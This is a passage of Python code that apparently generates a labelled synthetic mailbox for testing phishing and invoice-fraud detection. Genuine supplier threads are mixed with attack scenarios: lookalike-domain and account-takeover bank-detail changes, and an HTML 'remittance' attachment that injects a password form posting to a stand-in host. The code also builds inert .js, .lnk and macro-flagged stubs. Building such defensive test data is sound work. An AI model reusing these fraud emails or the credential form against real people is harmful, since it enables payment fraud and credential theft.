        h, tail = internal_top(who, t) if own else transport(who, t, env, infra, client, orig_ip)
    date = t.astimezone(who.tz if client not in ("owa-foreign", "emclient", "phpmailer") else t.tzinfo).strftime("%a, %d %b %Y %H:%M:%S %z")
    fromh = frm or addr(who.name, who.email)
    toh = ", ".join(addr(n, e) for n, e in to)
    if client in ("gmail", "gmailios"):
        h += [("MIME-Version", "1.0")]
        if refs: h += [("References", " ".join(refs)), ("In-Reply-To", irt or refs[-1])]
        h += [("From", fromh), ("Date", date), ("Message-ID", m), ("Subject", enc_h(subj)), ("To", toh)]
        if cc: h.append(("Cc", ", ".join(addr(n, e) for n, e in cc)))
    else:
        h += [("From", fromh), ("To", toh)]
        if cc: h.append(("Cc", ", ".join(addr(n, e) for n, e in cc)))
        h += [("Subject", enc_h(subj)), ("Thread-Topic", enc_h(topic or subj.split(": ", 1)[-1]))] if client in MSC else [("Subject", enc_h(subj))]
        if client in MSC: h.append(("Thread-Index", tidx or base64.b64encode(b"\x01" + rbytes(21)).decode()))
        h += [("Date", date), ("Message-ID", m)]
        if refs: h += [("References", "\n ".join(refs)), ("In-Reply-To", irt or refs[-1])] if client in MSC else [("In-Reply-To", irt or refs[-1]), ("References", "\n ".join(refs))]
    if client in MSC:
        h += [("Accept-Language", "en-GB, en-US"), ("Content-Language", "en-GB" if client != "owa-foreign" else "en-US"),
              ("X-MS-Has-Attach", "yes" if atts else ""), ("X-MS-TNEF-Correlator", "")]
        if client in ("ex16", "ex19"): h.append(("X-Originating-IP", f"[{EXCH[who.dom][2].rsplit('.', 1)[0]}.{R.randint(60, 90)}]"))
        if client == "exo" and who.dom in TENANT: h.append(("msip_labels", ""))
        if client == "outlookios": h.append(("x-ms-exchange-messagesentrepresentingtype", "1"))
    if client in UA: h.append(UA[client])
    if client == "zendesk": h += [("X-Zendesk-From-Account-Id", "a3f91c0"), ("X-Zendesk-Email-Id", f"01J{alnum(23).upper()}"), ("Auto-Submitted", "auto-generated")]
    h += list(extra)
    if client == "iphone": h.append(("Mime-Version", "1.0 (1.0)"))
    elif client not in ("gmail", "gmailios"): h.append(("MIME-Version", "1.0"))
    h += tail
    if html is None and not no_html: html = html_of(client, plain)
    bnd = lambda: {"exo": "_000_" + EXO_HOST.get(who.dom, ("LO0P123MB4412", ""))[0] + HX(16) + "_", "ex16": "_000_" + hx(32) + "PVSEXCH01penninelocal_",
                   "ex19": "_000_" + hx(32) + "NWAHMBX02northwaycorp_", "gmail": "000000000000" + hx(16), "gmailios": "000000000000" + hx(16),
                   "iphone": f"Apple-Mail-{ruuid().upper()}", "outlookios": "_000_" + EXO_HOST.get(who.dom, ("X", ""))[0] + HX(16) + "_",
                   "zendesk": "--==_mimepart_" + hx(13) + "_" + hx(6), "bt": f"----=_Part_{R.randint(100000, 999999)}_{R.randint(10**8, 10**9)}.{int(t.timestamp() * 1000)}"}.get(client, "=_" + hx(24))
    def textpart(ctype, text):
        data = text.encode("utf-8")
        if client == "iphone" and ctype == "text/plain":
            if text.isascii(): return ["Content-Type: text/plain;\n\tcharset=us-ascii", "Content-Transfer-Encoding: 7bit", "", text]
            return ["Content-Type: text/plain;\n\tcharset=utf-8", "Content-Transfer-Encoding: quoted-printable", "", quopri.encodestring(data).decode("ascii")]
        if client in ("gmail", "gmailios"):
            if text.isascii() and max(len(x) for x in text.split("\n")) < 990: return [f'Content-Type: {ctype}; charset="UTF-8"', "", text]
            return [f'Content-Type: {ctype}; charset="UTF-8"', "Content-Transfer-Encoding: quoted-printable", "", quopri.encodestring(data).decode("ascii")]
        if client in MSC: return [f'Content-Type: {ctype}; charset="utf-8"', "Content-Transfer-Encoding: quoted-printable", "", quopri.encodestring(data).decode("ascii")]
        if client == "thunderbird" and ctype == "text/plain": return ["Content-Type: text/plain; charset=UTF-8; format=flowed", "Content-Transfer-Encoding: 7bit" if text.isascii() else "Content-Transfer-Encoding: 8bit", "", text]
        return [f"Content-Type: {ctype}; charset=UTF-8", "Content-Transfer-Encoding: quoted-printable", "", quopri.encodestring(data).decode("ascii")]
    alt = textpart("text/plain", plain)
    if html:
        ab = bnd(); alt = [f'Content-Type: multipart/alternative; boundary="{ab}"', "", f"--{ab}"] + textpart("text/plain", plain) + [f"--{ab}"] + textpart("text/html", html) + [f"--{ab}--"]
    if atts:
        mb = bnd(); body = [f'Content-Type: multipart/mixed; boundary="{mb}"', "", f"--{mb}"] + alt
        for name, data, ctype in atts:
            if client in ("gmail", "gmailios"):
                body += [f"--{mb}", f'Content-Type: {ctype}; name="{name}"', f'Content-Disposition: attachment; filename="{name}"', "Content-Transfer-Encoding: base64",
                         f"Content-ID: <f_{alnum(9).lower()}0>", f"X-Attachment-Id: f_{alnum(9).lower()}0", "", base64.encodebytes(data).decode().rstrip("\n")]
            elif client in MSC:
                body += [f"--{mb}", f'Content-Type: {ctype}; name="{name}"', f"Content-Description: {name}",
                         f'Content-Disposition: attachment; filename="{name}"; size={len(data)};\n\tcreation-date="{rfc(t, UTC)}";\n\tmodification-date="{rfc(t, UTC)}"',
                         "Content-Transfer-Encoding: base64", "", base64.encodebytes(data).decode().rstrip("\n")]
            else:
                body += [f"--{mb}", f'Content-Type: {ctype}; name="{name}"', f'Content-Disposition: attachment; filename="{name}"', "Content-Transfer-Encoding: base64", "",
                         base64.encodebytes(data).decode().rstrip("\n")]
        body += [f"--{mb}--"]
    else: body = alt
    raw = "\r\n".join(f"{k}: {v}".replace("\n", "\r\n") for k, v in h) + "\r\n" + "\r\n".join(body).replace("\r\n", "\n").replace("\n", "\r\n") + "\r\n"
    seq[0] += 1
    pending.append((t.astimezone(UTC), seq[0], folder, raw, (m, label) if label else None, scen))
    return m


G = ("genuine", "genuine-reply"); GH = ("genuine", "genuine-hard"); GO = ("genuine", "genuine-orphan")
def HJ(kind): return ("hijack", kind)


class Thread:
    def __init__(s, tid, partner, subj, inbox_to=None):
        s.tid, s.p, s.subj, s.refs, s.last, s.inbox_to = tid, partner, subj, [], None, inbox_to
        s.blocks = []; s.tbase = b"\x01" + rbytes(21); s.np = 0

    def add(s, who, text, t, label=None, client=None, to=None, cc=None, sig=True, quote=True, subj=None, scen=None, quote_text=None, detached=False, **kw):
        client = client or who.client
        plain = text + (who.sig if sig else "")
        if who is me and client == "iphone": plain = text + "\n\nSent from my iPhone"
        if quote and s.last and client != "zendesk":
            q = dict(s.last)
            if quote_text is not None: q["plain"] = quote_text
            plain += quote_of(client, q)
        if subj is None:
            if not s.refs or client == "zendesk": subj = s.subj
            else:
                pf = "RE: " if client in MSC else "Re: "
                subj = s.subj if s.subj.lower().startswith(("re:", "fw:")) else pf + s.subj
        if to is None: to = [(s.p.name, s.p.email)] if who is me else (s.inbox_to or [(me.name, me.email)])
        if label == G and scen is None:
            s.np += 1; scen = (f"P-{s.tid}-{s.np}", f"plain in-thread reply from {who.name} in {s.tid} '{s.subj}'")
        while len(s.blocks) < len(s.refs): s.blocks.append(rbytes(5))
        if "tidx" not in kw: kw["tidx"] = base64.b64encode(s.tbase + b"".join(s.blocks[:len(s.refs)])).decode()
        m = emit(who, client, t, to, cc, subj, list(s.refs), plain, label=label, topic=s.subj.split(": ", 1)[-1], scen=scen, **kw)
        if detached: return m
        s.refs.append(m)
        s.last = dict(t=t, name=who.name, email=who.email, plain=plain, subj=subj, to=to, cc=cc or [])
        return m


def zipfile_bytes(members, when=(2025, 3, 12, 16, 40, 0), encrypt=False):
    bio = io.BytesIO(); z = zipfile.ZipFile(bio, "w", zipfile.ZIP_DEFLATED)
    for name, data in members:
        zi = zipfile.ZipInfo(name, date_time=when); zi.compress_type = zipfile.ZIP_DEFLATED; z.writestr(zi, data)
    z.close(); b = bytearray(bio.getvalue())
    if encrypt:  # mark every entry as ZipCrypto-encrypted (general purpose bit 0) in local and central headers
        i = 0
        while True:
            i = b.find(b"PK\x03\x04", i)
            if i < 0: break
            b[i + 6] |= 1; i += 4
        i = 0
        while True:
            i = b.find(b"PK\x01\x02", i)
            if i < 0: break
            b[i + 8] |= 1; i += 4
    return bytes(b)


def pdf_esc(s): return s.replace("\\", "\\\\").replace("(", "\\(").replace(")", "\\)")


def pdf(lines, producer="Microsoft® Word for Microsoft 365", when="20250303091200", zone="+00'00'", uri=None):
    content = ("BT /F1 11 Tf 14 TL 72 770 Td " + " ".join(f"({pdf_esc(l)}) '" for l in lines) + " ET").encode("latin-1")
    annots = " /Annots [7 0 R]" if uri else ""
    objs = ["<< /Type /Catalog /Pages 2 0 R >>", "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            f"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 5 0 R >> >> /Contents 4 0 R{annots} >>",
            f"<< /Length {len(content)} >>\nstream\n", "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>",
            f"<< /Producer ({pdf_esc(producer)}) /CreationDate (D:{when}{zone}) /ModDate (D:{when}{zone}) >>"]
    if uri: objs.append(f"<< /Type /Annot /Subtype /Link /Rect [72 600 520 640] /Border [0 0 0] /A << /S /URI /URI ({pdf_esc(uri)}) >> >>")
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"); offs = []
    for i, o in enumerate(objs, 1):
        offs.append(len(out))
        out += (f"4 0 obj\n{o}".encode() + content + b"\nendstream\nendobj\n") if i == 4 else f"{i} 0 obj\n{o}\nendobj\n".encode("latin-1")
    x = len(out); fid = hx(32)
    out += f"xref\n0 {len(objs) + 1}\n0000000000 65535 f \n".encode() + b"".join(f"{o:010d} 00000 n \n".encode() for o in offs)
    out += f"trailer\n<< /Size {len(objs) + 1} /Root 1 0 R /Info 6 0 R /ID [<{fid}> <{fid}>] >>\nstartxref\n{x}\n%%EOF\n".encode()
    return bytes(out)


def ooxml(kind, text, macro=False, when=(2025, 1, 14, 10, 0, 0)):
    """minimal but structurally real OOXML package: kind 'docx' or 'xlsx'"""
    if kind == "docx":
        main = "word/document.xml"; ct = "application/vnd.ms-word.document.macroEnabled.main+xml" if macro else "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
        body = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>'
                + "".join(f"<w:p><w:r><w:t>{esc(l)}</w:t></w:r></w:p>" for l in text) + "</w:body></w:document>")
        rel = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument"
    else:
        main = "xl/workbook.xml"; ct = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
        body = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
                'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="Price list" sheetId="1" r:id="rId1"/></sheets></workbook>')
        rel = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument"
    types = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
             '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>'
             + ('<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>' if macro else "")
             + f'<Override PartName="/{main}" ContentType="{ct}"/></Types>')
    rels = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            f'<Relationship Id="rId1" Type="{rel}" Target="{main}"/></Relationships>')
    members = [("[Content_Types].xml", types.encode()), ("_rels/.rels", rels.encode()), (main, body.encode())]
    if kind == "xlsx":
        members.append(("xl/worksheets/sheet1.xml", ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
                                                      + "".join(f'<row r="{i}"><c r="A{i}" t="inlineStr"><is><t>{esc(l)}</t></is></c></row>' for i, l in enumerate(text, 1)) + "</sheetData></worksheet>").encode()))
    if macro:
        members.append(("word/_rels/document.xml.rels", b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId9" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="vbaProject.bin"/></Relationships>'))
        members.append(("word/vbaProject.bin", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + rbytes(3000)))
    return zipfile_bytes(members, when)


def iso_image(label):
    return bytes(bytearray(b"\x00" * 0x8000) + b"\x01CD001\x01\x00" + b"WIN32".ljust(32) + label.encode().ljust(32) + rbytes(1900)) + rbytes(4096)


def lnk_bytes():
    return (b"\x4c\x00\x00\x00\x01\x14\x02\x00\x00\x00\x00\x00\xc0\x00\x00\x00\x00\x00\x00\x46" + rbytes(56)
            + "C:\\Windows\\System32\\cmd.exe /c echo inert-probe-placeholder".encode("utf-16-le") + rbytes(40))


def onenote(): return bytes.fromhex("e4525c7b8cd8a74daeb15378d02996d3") + rbytes(6000)


def png(w=320, h=200):
    def chunk(tp, data): return struct.pack(">I", len(data)) + tp + data + struct.pack(">I", zlib.crc32(tp + data) & 0xffffffff)
    rows = b"".join(b"\x00" + bytes((R.randint(200, 255) if (x // 40 + y // 40) % 7 else 40) for x in range(w * 3)) for y in range(h))
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", w, h, 8, 2, 0, 0, 0)) + chunk(b"IDAT", zlib.compress(rows, 6)) + chunk(b"IEND", b"")


def notice(who, client, t, subj, plain, html, extra=(), label=None, scen=None, to=None, atts=(), refs=(), mid=None):
    return emit(who, client, t, to or [(me.name, me.email)], None, subj, list(refs), plain, html=html, atts=atts, extra=extra, label=label, scen=scen, mid=mid)


# ================================================================ routine wholesaler orders (context + plain replies)
PRODUCTS = ["Metacam 1.5mg/ml oral suspension 100ml x6", "Vetmedin 5mg chewable x100", "Synulox RTU 100ml x2", "Isoflurane 250ml x6",
            "Hartmann's 1L x20", "Rimadyl 50mg x100", "Propofol 1% 20ml x5", "Bravecto 500mg x10", "Cerenia 16mg x4", "Prednicare 5mg x100"]
order_threads = {}
def order_thread(partner, n, t, tid, label=True):
    items = R.sample(PRODUCTS, 3)
    th = Thread(tid, partner, f"Order {n} - Fairburn Roundhay")
    th.add(me, "Hi " + partner.name.split()[0] + ",\n\nPlease could we place the following for Thursday's delivery:\n\n" + "\n".join(f"- {i}" for i in items)
           + "\n\nAccount FVG-0117. Thanks", t)
    r = later(t, R.randint(40, 200))
    th.add(partner, f"Hi Oliver,\n\nThanks - order {n} is booked for Thursday. " + R.choice(["All lines in stock.", f"{items[1].split(' ')[0]} is on short supply, we've sent what we have and back-ordered the rest.", "Delivery will be on the usual Elland van."]),
           r, G if label else None)
    order_threads[tid] = th
    return th


_d = datetime.date(2024, 9, 3)
for i in range(70):
    _d += datetime.timedelta(days=R.choice((4, 5, 6, 7)))
    if _d > datetime.date(2025, 6, 20): break
    who = gareth if i % 2 else (rachel if _d < datetime.date(2025, 2, 1) else tom)
    th = order_thread(who, ("PVS-" if who.dom.startswith("pennine") else "NW-") + str(40210 + i * 37), at(_d.year, _d.month, _d.day, 9, R.randint(0, 50)), f"O{i + 1}", label=i % 3 != 0)
    if i % 2 == 0: th.add(me, R.choice(["Thanks!", "Great, thank you.", "Perfect - cheers.", "Thanks, can you add 2 x Hartmann's 1L to that?"]), later(th.last["t"], R.randint(10, 90)))

# ================================================================ T1 Pennine account / statements (G1, G4, bank change G7/G8, lookalike A12)
t1 = Thread("T1", rachel, "Fairburn Veterinary Group - account FVG-0117 statement")
t1.add(me, "Hi Rachel,\n\nCould you send over the September statement? Our books close on Friday.", at(2024, 10, 2, 10, 5))
t1.add(rachel, "Hi Oliver,\n\nStatement attached, nothing overdue.", at(2024, 10, 2, 11, 40), GH,
       scen=("G1", "Pennine statement PDF in reply - they always send statements as PDF"),
       atts=[("Statement_FVG-0117_Sep24.pdf", pdf(["Pennine Veterinary Supplies Ltd", "Statement - FVG-0117 - 30/09/2024", "Balance: GBP 0.00"], producer="Crystal Reports", when="20241002113000"), "application/pdf")])
t1.add(me, "Perfect, thanks Rachel.", at(2024, 10, 2, 11, 52))
t1.add(rachel, "Hi Oliver,\n\nJust to let you know I'm moving to our Manchester branch from February. Tom Birch is taking over the Yorkshire accounts - "
       "I've copied him in. He's been with us three years so you're in good hands.", at(2025, 1, 22, 14, 10), G, cc=[(tom.name, tom.email)])
t1.add(me, "Thanks Rachel, and good luck in Manchester! Hi Tom - nice to meet you. Our order day is usually Tuesday.", at(2025, 1, 22, 15, 2), cc=[(tom.name, tom.email)])
t1.add(tom, "Hi Oliver,\n\nThanks for the welcome. I'll keep Tuesdays as they are. Attached is the January statement so you have my details.",
       at(2025, 1, 23, 9, 15), GH, scen=("G4", "new account manager at Pennine (introduced in thread) writes for the first time with a PDF"),
       atts=[("Statement_FVG-0117_Jan25.pdf", pdf(["Pennine Veterinary Supplies Ltd", "Statement - FVG-0117 - 22/01/2025", "Balance: GBP 1,284.60"], producer="Crystal Reports", when="20250123090000"), "application/pdf")])
t1.add(me, "Got it, thanks Tom.", at(2025, 1, 23, 9, 40))

t1b = Thread("T1b", pennine_cc, "Change of bank details - Pennine Veterinary Supplies Ltd")
t1b.add(pennine_cc, "Dear Customer,\n\nFollowing our move to Yorkshire Building Society business banking, our bank details change from 1 March 2025. "
        "The signed letter on our letterhead is attached. Please do not act on this email alone - call our credit control team on the number "
        "you already hold for us (01422 555 300, option 3) to confirm before amending your records.", at(2025, 2, 17, 11, 0), GH,
        scen=("G7", "wholesaler's genuine bank-change letter (PDF), asks customers to verify by phone"),
        atts=[("Pennine_bank_details_change_March2025.pdf", pdf(["Pennine Veterinary Supplies Ltd", "Notice of change of bank details", "Effective 1 March 2025",
                                                                  "Sort code 60-95-11  Account 40091837", "Please verify by telephone: 01422 555 300"], when="20250217100000"), "application/pdf")])
t1b.add(me, "Hi Joanne,\n\nThanks - I've just spoken to you on 01422 555 300 and confirmed the new sort code and account. Records updated from 1 March.",
        at(2025, 2, 17, 15, 20))
t1b.add(pennine_cc, "Thank you Oliver, confirmed on our side. The March statement will show the new details.", at(2025, 2, 18, 9, 5), G)
t1b.add(pennine_cc, "Dear Oliver,\n\nAs discussed, please find the March statement attached. Remittances to the new account (60-95-11 / 40091837) from now on please.",
        at(2025, 3, 31, 10, 30), GH, scen=("G8", "first statement with the new (phone-verified) bank details"),
        atts=[("Statement_FVG-0117_Mar25.pdf", pdf(["Pennine Veterinary Supplies Ltd", "Statement - FVG-0117 - 31/03/2025", "Pay to: 60-95-11 40091837"], producer="Crystal Reports", when="20250331100000"), "application/pdf")])
# A12 lookalike Pennine (long, context-aware, reuses the real bank-change story)
look_tom = Pt("Tom Birch", "tom.birch@pennine-vetsuppiles.example", "exo", "look-pennine")
t1.add(look_tom, "Hi Oliver,\n\nHope all is well. Following on from Joanne's letter in February, our finance team has asked me to let our Yorkshire customers know "
       "that the Yorkshire Building Society account is now used for card settlements only. With immediate effect BACS remittances for FVG-0117 should go to:\n\n"
       "Account name: Pennine Veterinary Supplies\nSort code: 23-05-80\nAccount number: 61428853\n\n"
       "I've attached the updated letter. Your April balance of GBP 2,916.44 is due this Friday, so if you could use the new details for that payment "
       "I'd be grateful - and please email me the remittance rather than phoning credit control, they're moving offices this week and the lines are down.",
       at(2025, 4, 23, 13, 12), HJ("lookalike-domain"), infra="look-pennine", client="thunderbird",
       scen=("A12", "Pennine look-alike domain (suppiles), new sort code, refers to the real bank-change letter, discourages phone call"),
       atts=[("Pennine_revised_remittance_details.pdf", pdf(["Pennine Veterinary Supplies Ltd", "Revised remittance details", "Sort code 23-05-80  Account 61428853"], producer="Microsoft: Print To PDF", when="20250423120000"), "application/pdf")])

# ================================================================ T2 Pennine: cold-chain fridge issue, A1 server-hijack remittance HTML
t2 = Thread("T2", tom, "Damaged vaccine delivery - credit request")
t2.add(me, "Hi Tom,\n\nYesterday's delivery (PVS-40358) arrived with the cool box at room temperature - the Nobivac DHP and Lepto packs are unusable. "
       "Could we have a credit note please? Photos of the data logger attached.", at(2025, 3, 20, 9, 30), atts=[("logger.png", png(), "image/png")])
t2.add(tom, "Morning Oliver,\n\nSorry about that - the driver's route was delayed by the A629 closure. I've raised credit CN-11872 for GBP 412.80 and the replacements go out today.",
       at(2025, 3, 20, 11, 2), G)
t2.add(me, "Thanks Tom, appreciated.", at(2025, 3, 20, 11, 15))
remit_html = ("<html><head><title>Remittance Advice</title></head><body style=\"font-family:Segoe UI\"><div id=\"x\">Loading remittance...</div>"
              "<script>var u='https://pvs-remit.sharedocs-viewer.example/owa/?e='+'oliver.bennett@fairburnvets.example';document.getElementById('x').innerHTML="
              "'<form action=\"'+u+'\" method=post>Session expired. Sign in to view remittance<br><input name=p type=password></form>'</script></body></html>")
t2.add(tom, "Hi Oliver,\n\nPlease see the remittance for the credit note attached, kindly confirm once received.", at(2025, 3, 26, 16, 48), HJ("server-hijack"),
       scen=("A1", "Pennine's real Exchange (same headers): 'remittance' HTML attachment with a credential form, short, no reference to the vaccines"),
       atts=[("Remittance_CN-11872.htm", remit_html.encode(), "text/html")])

# ================================================================ T3 Northway cold-chain logger export (G22) + A7 server-hijack password zip
t3 = Thread("T3", gareth, "Fridge temperature excursion - Nobivac batch")
t3.add(me, "Hi Gareth,\n\nOur surgery fridge alarmed overnight (peaked at 11C for 2 hours). Before we decide whether to discard the Northway vaccines, "
       "could your technical team advise? Could you also send the temperature logger export from the delivery on the 12th?", at(2024, 11, 14, 8, 40))
t3.add(gareth, "Hi Oliver,\n\nTechnical services say anything under 25C for under 4 hours is fine for those batches - keep them. "
       "I've zipped the logger CSVs from the delivery as requested.", at(2024, 11, 14, 12, 5), GH,
       scen=("G22", "wholesaler sends zipped logger CSVs Oliver asked for"),
       atts=[("NWAH_logger_export_12Nov.zip", zipfile_bytes([("logger_7731.csv", b"timestamp,temp_c\n2024-11-12T06:00,4.1\n2024-11-12T06:15,4.3\n"),
                                                           ("logger_7732.csv", b"timestamp,temp_c\n2024-11-12T06:00,3.9\n")], (2024, 11, 14, 11, 50, 0)), "application/x-zip-compressed")])
t3.add(me, "Brilliant, thanks Gareth. That saves us a few hundred quid.", at(2024, 11, 14, 12, 30))
t3.add(gareth, "No problem at all. Shout if the alarm goes again.", at(2024, 11, 14, 13, 2), G)
t3.add(gareth, "Good afternoon,\n\nPlease find attached outstanding invoice copy as requested. Document is protected for data security.\n\nPassword: NW2025\n\nRegards",
       at(2025, 1, 29, 15, 33), HJ("server-hijack"), sig=False, quote=True,
       scen=("A7", "Northway's real Exchange/Mimecast path: password-protected zip (password in text) holding a .js, generic text, no signature"),
       atts=[("INV_NW_0129.zip", zipfile_bytes([("INV_NW_0129.js", b"// inert probe placeholder\nvar a='WScript';\n" + rbytes(400))], (2025, 1, 29, 15, 20, 0), encrypt=True), "application/zip")])

# ================================================================ T4 Northway price list (G2) and Gareth from iPhone (G29)
t4 = Thread("T4", gareth, "2025 price list and rebate tiers")
t4.add(gareth, "Hi Oliver,\n\nAs promised at the visit, the 2025 price list and the rebate tiers. Happy to go through it on Teams.", at(2024, 12, 9, 10, 12), None,
       atts=[("NWAH_Price_List_2025_Fairburn.xlsx", ooxml("xlsx", ["Product", "Metacam 1.5mg/ml 100ml", "Vetmedin 5mg x100"]), "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet")])
t4.add(me, "Thanks Gareth. The tier 2 threshold looks achievable if we move the Bravecto volume to you. Could you re-run it with that?", at(2024, 12, 9, 14, 30))
t4.add(gareth, "Hi Oliver,\n\nRe-run attached with Bravecto moved across - you'd land in tier 2 from Q2.", at(2024, 12, 11, 9, 0), GH,
       scen=("G2", "Northway sends a revised xlsx price list in reply, as before"),
       atts=[("NWAH_Price_List_2025_Fairburn_v2.xlsx", ooxml("xlsx", ["Product", "Bravecto 500mg x10", "Tier 2"]), "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet")])
t4.add(me, "Great, let's do it from April.", at(2024, 12, 11, 9, 40))
t4.add(gareth, "Fab, I'll set it up. On the road today so excuse brevity.\n\nSent from my iPhone", at(2024, 12, 11, 21, 52), GH, client="iphone", sig=False,
       scen=("G29", "account manager replies from his iPhone at night (different client from his usual Outlook)"))

# ================================================================ T5 locum agency (Gmail): locum bookings, phone change G5, new consultant G27, A2 ATO
t5 = Thread("T5", sophie, "Locum cover - Roundhay, w/c 14 Oct")
t5.add(me, "Hi Sophie,\n\nWe need a small animal locum for w/c 14 October, 8:30-6:30 Mon-Fri, Roundhay branch. RCVS registered, happy with ortho consults.", at(2024, 9, 30, 9, 10))
t5.add(sophie, "Hi Oliver,\n\nI've got Dr Aoife Gallagher available that week - CV attached. Day rate GBP 520 as before.", at(2024, 9, 30, 13, 25), G,
       atts=[("Aoife_Gallagher_CV.pdf", pdf(["Dr Aoife Gallagher MVB MRCVS", "Small animal locum, 8 years"], producer="Canva", when="20240930120000"), "application/pdf")])
t5.add(me, "Perfect, please book her in.", at(2024, 9, 30, 14, 2))
t5.add(sophie, "Booked! She'll arrive 8:15 on the Monday.", at(2024, 9, 30, 14, 40), G)
t5.add(me, "Hi Sophie,\n\nAoife was great - could we have her again for the Christmas week (23-27 Dec)?", at(2024, 11, 4, 10, 0))
t5.add(sophie, "Hi Oliver,\n\nShe's free for 23, 24 and 27. I'll hold those. Also - new mobile number for me from next week: 07700 900 874 (the old one is going).",
       at(2024, 11, 4, 16, 10), GH, scen=("G5", "locum agency contact announces a new phone number"))
t5.add(me, "Thanks, please hold those three. Number updated.", at(2024, 11, 4, 16, 30))
t5.add(sophie, "Hi both,\n\nLooping in Ellie who's joined me at York Vet Locums - she'll handle invoicing from January.", at(2024, 12, 16, 11, 5), G,
       cc=[("Ellie Grant", "ellie.yorklocums@gmail.com")])
ellie = Pt("Ellie Grant", "ellie.yorklocums@gmail.com", "gmail", "gmail", "\n\nEllie Grant\nYork Vet Locums - Accounts\n07700 900 874")
t5.add(ellie, "Hi Oliver,\n\nNice to e-meet you! Invoice for Aoife's December days attached - bank details unchanged (Starling 60-83-71).",
       at(2025, 1, 6, 10, 12), GH, cc=[(sophie.name, sophie.email)], scen=("G27", "locum agency's new colleague (introduced in thread) sends her first invoice, bank unchanged"),
       atts=[("YVL-INV-0231.pdf", pdf(["York Vet Locums", "Invoice YVL-INV-0231", "3 days x GBP 520 = GBP 1,560.00", "Starling 60-83-71 12004418"], producer="Xero", when="20250106100000"), "application/pdf")])
t5.add(me, "Thanks Ellie, paid by BACS today.", at(2025, 1, 6, 15, 0), cc=[(sophie.name, sophie.email)])
t5.add(sophie, "Hiya, just seen this on my phone, thanks Oliver!! x", at(2025, 1, 6, 23, 41), GH, client="gmailios", sig=False,
       scen=("G6", "locum agency contact replies from the Gmail iPhone app at 23:41"))
t5.add(sophie, "Hi Oliver,\n\nQuick one - Aoife has moved her invoicing to her own limited company this month, so her March days need paying direct to her rather than through us. "
       "Her company details:\n\nAG Veterinary Services Ltd\nSort code: 04-00-75\nAccount: 39217705\n\nCould you pay the GBP 2,080 today if possible? She's chasing me. "
       "Reply here rather than calling, I'm on the road all day.", at(2025, 3, 27, 7, 48), HJ("account-takeover"), client="phpmailer", infra="vps-gmail",
       orig_ip="102.89.33.171", scen=("A2", "locum agency Gmail account taken over: sent via SMTP with a mail library from a foreign IP, locum's invoice to a new sort code, no payload"))


# ================================================================ T6 landlord's agent: lease renewal (G23 DocuSign, G9 OOO, G20 revival, A5 ATO, A13 spoof)
t6 = Thread("T6", daniel, "Roundhay Road - lease renewal 2025")
t6.add(daniel, "Dear Oliver,\n\nThe landlord has agreed the heads of terms for the renewal. I'll send the lease via DocuSign once solicitors have finalised it.", at(2024, 10, 15, 10, 20), None)
t6.add(me, "Thanks Daniel, that's good news. James Fairburn will sign for the partnership.", at(2024, 10, 15, 11, 2))
t6.add(daniel, "Noted, thank you. Expect it within a fortnight.", at(2024, 10, 15, 11, 40), G)
emit(docusign, "docusign", at(2024, 10, 29, 14, 5), [(me.name, me.email)], None, "Please DocuSign: Roundhay Road Lease Renewal 2025.pdf", [],
     "Daniel Crowther sent you a document to review and sign.\n\nREVIEW DOCUMENT: https://eu.docusign.net/Signing/EmailStart.aspx?a=" + ruuid() + "&etti=24&acct=" + ruuid()
     + "\n\nDo Not Share This Email\nThis email contains a secure link to DocuSign.", label=GH, scen=("G23", "genuine DocuSign envelope announced in the lease thread (no reply headers)"))
t6.add(me, "Hi Daniel, signed this morning - James has countersigned too.", at(2024, 10, 31, 9, 15))
t6.add(daniel, "Thank you Oliver, completed copy will follow from DocuSign.", at(2024, 10, 31, 10, 2), G)
ooo = Thread("T6o", daniel, "Service charge reconciliation 2023/24")
ooo.add(me, "Hi Daniel,\n\nThe service charge reconciliation shows GBP 1,940 for roof repairs - could you send the invoices behind it?", at(2024, 11, 20, 9, 0))
ooo.add(daniel, "Thank you for your email. I am on annual leave until Monday 2 December with limited access to email. For urgent matters please call the office on 0113 496 0455.",
        at(2024, 11, 20, 9, 1), GH, sig=False, quote=False, subj="Automatic reply: Service charge reconciliation 2023/24",
        extra=[("Auto-Submitted", "auto-replied"), ("X-Auto-Response-Suppress", "All")], scen=("G9", "landlord's agent out-of-office automatic reply"))
ooo.add(daniel, "Hi Oliver,\n\nApologies for the delay - the roof invoices are attached.", at(2024, 12, 3, 10, 40), G,
        atts=[("Roof_repairs_invoices.pdf", pdf(["Aire Valley Roofing", "Invoice 2231 - GBP 1,940.00"], when="20241203100000"), "application/pdf")])
ooo.add(me, "Thanks Daniel.", at(2024, 12, 3, 11, 0))
